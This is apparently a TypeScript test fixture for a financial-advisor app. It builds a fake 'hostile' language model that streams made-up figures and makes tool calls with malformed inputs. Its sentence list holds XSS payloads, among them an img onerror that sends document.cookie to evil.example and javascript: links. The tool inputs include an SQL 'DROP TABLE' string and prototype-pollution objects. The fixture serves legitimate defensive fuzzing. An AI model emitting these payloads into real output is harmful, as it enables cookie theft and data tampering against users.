import type { Asking, LanguageModel } from '#advisor/language/model.ts'

/** Numbers from 0 to 1, the same for the same seed. */
export function createRandom(seed: number) {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}

/** What a model may come up with that ignores every rule. */
const sentences: ((random: () => number) => string)[] = [
  () => 'You are doing well.',
  (random) => `You have $${Math.round(random() * 1e6)} in the bank.`,
  (random) => `That is ${(random() * 100).toFixed(2)}% a year.`,
  () => 'You will be a millionaire in twenty-five years.',
  () => 'You owe five hundred thousand dollars, or half a million.',
  () => 'That makes fi**ve** thous\u200band dollars and `se``ven` cents.',
  () => 'You owe ５００ dollars, ①, ½, Ⅻ, ٣ and ৫.',
  () => 'It is &#49;&#48;&#48; or &#x35; dollars.',
  (random) => `You own [[f${Math.floor(random() * 30)}]] and [[s${Math.floor(random() * 6)}.months]].`,
  () =>
    'You own [[profile.savings]] and $[[profile.income]] and [[debt1.amount]] dollars at [[debt1.rate]]%.',
  () => 'You save [[total.savings]] and earn $85,000, about $85k, and owe $4,000 on the Visa 4521.',
  () =>
    'You own -[[profile.savings]], [[profile.savings]]k, [[debt1.amount]] million and [[debt1.rate]]*[[debt1.rate]].',
  (random) => `You own [[debt1.amount]]000 and -[[profile.savings]]${Math.floor(random() * 9)}.`,
  () => 'You own [[profile.savings]] and [[constructor]] and [[__proto__]] and [[ profile.savings ]].',
  (random) =>
    `Save ${Math.round(random() * 50)} months, ${Math.round(random() * 9)} years and ${Math.round(random() * 12)} months, or ${Math.round(random() * 40)}x.`,
  (random) =>
    `The 15-year mortgage, the W-4 and Chapter 7 cost ${Math.round(random() * 500)} each in ${2020 + Math.round(random() * 20)}.`,
  () => '| Plan | Cost |\n|---|---|\n| Fast | $1,234 |\n| Slow | [[debt1.amount]] |\n',
  () => '\nQ: Shall I move 5,000 now?\n',
  () => '\n[[card:s1]] [[card:s99]]\n',
  () => 'El saldo sube a cinco mil, y baja luego poco despacio hacia nada.',
  () => '<data value="f1">$9,999</data> is yours.',
  () => '<script>alert(document.cookie)</script>',
  () => '<img src=x onerror="fetch(`//evil.example/${document.cookie}`)">',
  () => 'Look [here](javascript:alert(1)) and ![there](https://evil.example/a.png).',
  () => '<a href="https://evil.example">Sign in</a> again, <b style="color:red">now</b>.',
  () => '</p></div><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  () => '<svg><style><img src=x onerror=alert(1)></style></svg>',
  () => 'I have saved your income of 900,000 and deleted your debts.',
  () => 'Would you like me to transfer it?',
  () => '\n\n- a point with 12 months\n- a point without\n1. and one with a number\n',
  () => '# A heading with 3 things\n\n| a | 5 |\n|---|---|\n',
  () => '```\nconst x = 42\n```\n',
  (random) => 'very '.repeat(Math.floor(random() * 200)) + 'long.',
  () => '\uE000\uE000 \u202Egnp.exe\u202C \u0000 done.',
  () => '[[f1]] [[f1]] [[f1]]',
  () => '$ % € . ! ? ... *** ___ ** ** [[ ]] [[f1',
]

/** One answer of such a model. */
export function writeHostile(random: () => number): string {
  const count = 1 + Math.floor(random() * 8)
  return Array.from(
    { length: count },
    () => `${sentences[Math.floor(random() * sentences.length)]?.(random)} `,
  ).join('')
}

/** A model that invents figures, sends HTML, calls tools with whatever it likes and tries to have things stored. */
export function createHostileModel(random: () => number): LanguageModel {
  const pick = <Item>(items: readonly Item[]) => items[Math.floor(random() * items.length)]
  const amount = () => Math.round(random() * 1e6)
  const callTools = ({ tools, talk }: Asking) => {
    const words = talk.at(-1)?.text.split('The message:\n')[1] ?? ''
    for (let calls = Math.floor(random() * 4); calls > 0; calls -= 1) {
      const inputs: unknown[] = [
        null,
        'DROP TABLE users',
        { principal: amount(), rate: 5, months: 360 },
        { debts: [{ name: `You owe ${amount()}`, amount: 1, interestRate: 2 }], budget: { total: amount() } },
        { what: 'income', value: amount(), quote: words.slice(0, 20) },
        { what: 'asset', value: 12_000, quote: words },
        { what: 'debt', value: 12_000, quote: 'I owe 12,000 to the mob' },
        { what: 'end', target: 'debt1', quote: words.slice(0, 9) },
        { quote: words.slice(0, 30), reason: 'supposed' },
        { question: 'q1', reply: 'yes', quote: words.slice(0, 12) },
        { question: 'q1', reply: 'yes', quote: 'yes, all of it' },
        { balance: 'said"9,999"', rate: 'assume 5', payment: 'debt1.amount / 12' },
        { balance: 'debt1.amount * 1000', rate: '99', payment: '1' },
        { expression: 'debt1.amount * 7 + 13', label: 'You owe 999' },
        { expression: 'debt1.amount / 12 - profile.savings', label: 'Left' },
        { for: 'rule', words: 'limit 401k' },
        { for: 'sum', words: 's1' },
        { userId: 1, isAdmin: true, __proto__: { polluted: true } },
      ]
      pick(random() < 0.5 ? tools.slice(0, 6) : tools)?.run(pick(inputs))
    }
  }
  return {
    provider: 'compatible',
    name: 'hostile',
    origin: 'http://127.0.0.1',
    async *ask(asking) {
      callTools(asking)
      for (let count = Math.floor(random() * 8); count >= 0; count -= 1) {
        const text = `${pick(sentences)?.(random)} `
        const cut = Math.floor(random() * text.length)
        yield text.slice(0, cut)
        yield text.slice(cut)
      }
      asking.meter.report(1, 1)
    },
  }
}
